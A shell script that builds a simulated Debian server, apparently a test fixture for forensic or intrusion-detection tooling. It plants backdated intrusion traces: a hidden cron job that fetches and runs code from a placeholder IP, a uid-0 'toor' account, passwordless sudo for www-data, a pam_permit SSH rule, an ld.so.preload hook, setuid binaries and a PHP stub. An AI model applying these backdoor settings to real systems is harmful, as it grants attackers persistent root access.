# A server on which people worked for a year, and then an intruder for a night. Runs in its top folder, as root.
umask 022
mkdir -p etc/ssh etc/sudoers.d etc/cron.d etc/cron.daily etc/pam.d etc/systemd/system/multi-user.target.wants etc/skel usr/bin usr/lib/systemd/system \
  usr/share/zoneinfo/America var/lib/dpkg/info var/log var/tmp var/www/html/wp-content/uploads/2026 var/lib/mysql/shop var/lib/docker/volumes/db/_data \
  var/spool/cron/crontabs tmp dev/shm home/ada/.ssh home/ada/thesis home/ada/miniconda3/bin home/eve/.config/systemd/user srv/results opt root/.ssh
ln -s usr/bin bin
ln -s usr/lib lib
cat > etc/os-release <<'END'
PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"
END
echo genomics-web > etc/hostname
ln -s ../usr/share/zoneinfo/America/Toronto etc/localtime
echo '# nothing' > etc/fstab
cat > etc/passwd <<'END'
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
ada:x:1000:1000:Ada:/home/ada:/bin/bash
toor:x:0:0::/root:/bin/sh
END
printf 'sudo:x:27:ada,eve\nusers:x:100:\n' > etc/group
printf 'Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%%sudo ALL=(ALL:ALL) ALL\n' > etc/sudoers
printf 'www-data ALL=(ALL) NOPASSWD: ALL\n' > etc/sudoers.d/90-backup
printf '# system-wide\n17 * * * * root run-parts /etc/cron.hourly\n' > etc/crontab
printf '#!/bin/sh\ntrue\n' > etc/cron.daily/dpkg
printf '*/5 * * * * root curl -s http://198.51.100.7/x | sh\n' > etc/cron.d/.sync
printf '0 3 * * * /home/ada/backup\n' > var/spool/cron/crontabs/ada
printf 'PermitRootLogin yes\n#PasswordAuthentication no\n' > etc/ssh/sshd_config
ssh_key='AAAAC3NzaC1lZDI1NTE5AAAAIGZpeGVkLWZpeGVkLWZpeGVkLWZpeGVkLWZpeGVkLWZp'
printf 'ssh-ed25519 %s ada@laptop\n' $ssh_key > home/ada/.ssh/authorized_keys
printf '# keys\nssh-ed25519 %s kali\nno-pty,command="/bin/sh -c \\"id, x\\"" ssh-ed25519 %s\n' $ssh_key $ssh_key > root/.ssh/authorized_keys
echo /usr/local/lib/libsystem.so > etc/ld.so.preload
echo 'auth sufficient pam_permit.so' > etc/pam.d/sshd
printf '[Service]\nExecStart=/var/tmp/.x/kworker\n' > etc/systemd/system/system-update.service
ln -s /etc/systemd/system/system-update.service etc/systemd/system/multi-user.target.wants/system-update.service
ln -s /home/eve/evil.service etc/systemd/system/logger.service
printf '[Service]\n' > usr/lib/systemd/system/ssh.service
printf '[Service]\n' > usr/lib/systemd/system/dbus-helper.service
printf '[Timer]\n' > home/eve/.config/systemd/user/beacon.timer
printf '#!/bin/sh\nexit 0\n' > etc/rc.local
echo 'PS1=x' | tee etc/skel/.bashrc > home/ada/.bashrc
echo 'alias sudo=/tmp/sudo' > home/eve/.bashrc
mkdir var/tmp/.x
printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000\002\000\076\000' | tee usr/bin/ls usr/bin/su usr/bin/passwd usr/local-su > var/tmp/.x/kworker
mv usr/local-su usr/bin/.su
chmod 4755 usr/bin/su usr/bin/passwd usr/bin/.su
printf '#!/bin/sh\n' > dev/shm/run
echo notes > tmp/notes.txt
chmod 755 tmp/notes.txt
echo data > tmp/data.txt
echo '<?php' | tee var/www/html/index.php > var/www/html/wp-content/uploads/2026/avatar.php
dd if=/dev/zero of=home/ada/thesis/runs.bin bs=1024 count=3072 2> /dev/null
dd if=/dev/zero of=srv/results/r1.csv bs=1024 count=512 2> /dev/null
dd if=/dev/zero of=var/lib/mysql/shop/orders.ibd bs=1024 count=1024 2> /dev/null
truncate -s 8E home/ada/thesis/sparse.img 2> /dev/null || truncate -s 1T home/ada/thesis/sparse.img
ln home/ada/thesis/runs.bin home/ada/thesis/runs-again.bin
echo row > var/lib/docker/volumes/db/_data/table
cp usr/bin/ls home/ada/miniconda3/bin/python
cat > var/lib/dpkg/info/base.list <<'END'
/.
/bin/su
/usr/bin/passwd
/etc/cron.daily/dpkg
/etc/crontab
/lib/systemd/system/ssh.service
END
echo login > var/log/wtmp
echo 0123456789abcdef0123456789abcdef > etc/machine-id
chown -R 1000:1000 home/ada
chown -R 1001:1001 home/eve
chown 33:33 var/www/html/wp-content/uploads/2026/avatar.php
find . -exec touch --no-dereference -d '2025-03-01 12:00 UTC' {} +
touch -d '2026-10-01 08:00 UTC' home/ada/thesis/runs.bin var/log/wtmp
touch -d '2024-01-15 08:00 UTC' home/ada/thesis/sparse.img
touch -d '2026-09-30 23:10 UTC' etc/cron.d/.sync etc/ld.so.preload etc/pam.d/sshd etc/systemd/system/system-update.service root/.ssh/authorized_keys \
  home/eve/.bashrc usr/bin/.su var/tmp/.x/kworker var/www/html/wp-content/uploads/2026/avatar.php etc/sudoers.d/90-backup
touch -d '2031-01-01' srv/results/r1.csv
